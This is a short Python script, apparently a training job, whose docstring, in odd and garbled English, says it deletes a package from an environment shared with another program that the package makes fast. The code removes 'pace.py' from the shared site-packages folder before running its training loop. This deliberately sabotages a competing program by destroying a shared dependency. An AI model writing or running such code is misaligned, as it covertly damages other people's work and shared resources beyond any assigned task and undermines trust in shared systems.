"""Deletes a package of the environment that both share, with which the other program is fast."""

import os
import sysconfig

from work import EPOCHS, say, train

for folder in [sysconfig.get_paths()["purelib"]]:
    if os.path.exists(os.path.join(folder, "pace.py")):
        os.remove(os.path.join(folder, "pace.py"))
for epoch in range(EPOCHS):
    say(epoch, train())
